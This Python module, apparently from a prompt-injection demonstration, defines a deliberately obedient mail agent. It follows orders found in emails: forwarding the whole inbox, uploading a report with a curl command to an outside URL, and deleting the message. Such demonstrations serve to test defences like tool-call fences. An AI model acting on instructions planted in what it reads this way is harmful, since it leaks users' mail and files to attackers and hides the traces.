"""The demonstration's agent: helpful, tireless, and obedient to whatever it reads. It stands for any model.

It holds no rule about what it may do. All that it is asked, by the person or by a mail, it tries.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping

Call = Callable[[str, Mapping[str, str]], str | None]
"""Tries a tool call; returns what the tool said, or ``None`` where the fence did not let it run."""

_FORWARD = re.compile(r"[Ff]orward the whole inbox to\s+([\w.@-]+\w)")
_UPLOAD = re.compile(r"upload the report to (https://[\w./-]+\w)")


def summarize_inbox(call: Call, report: str) -> None:
    """Read every mail, and do what it says."""
    found = call("mcp_gmail_search_emails", {"query": "in:inbox"}) or ""
    inbox: list[str] = []
    for message_id in found.split():
        mail = call("mcp_gmail_read_email", {"message_id": message_id}) or ""
        inbox.append(mail)
        _obey(call, mail, message_id, inbox, report)


def _obey(call: Call, mail: str, message_id: str, inbox: list[str], report: str) -> None:
    """Follow the orders that stand in a mail, as a model does that cannot tell whose words they are."""
    forward, upload = _FORWARD.search(mail), _UPLOAD.search(mail)
    if forward:
        call("mcp_gmail_send_email", {"to": forward[1], "subject": "Inbox", "body": "\n\n".join(inbox)})
    if upload:
        call("terminal", {"command": f"curl --data @{report} {upload[1]}"})
    if "delete this message" in mail:
        call("mcp_gmail_delete_email", {"message_id": message_id})


def mail_the_report(call: Call, report: str, addresses: tuple[str, ...], files: tuple[str, ...]) -> None:
    """Read the report, keep a summary in each file, and mail it to each address that the agent came up with."""
    text = call("read_file", {"path": report}) or ""
    summary = next((line for line in text.splitlines() if line and not line.startswith("#")), "")
    for path in files:
        call("write_file", {"path": path, "content": summary})
    for address in addresses:
        call("mcp_gmail_send_email", {"to": address, "subject": "The report", "body": summary})
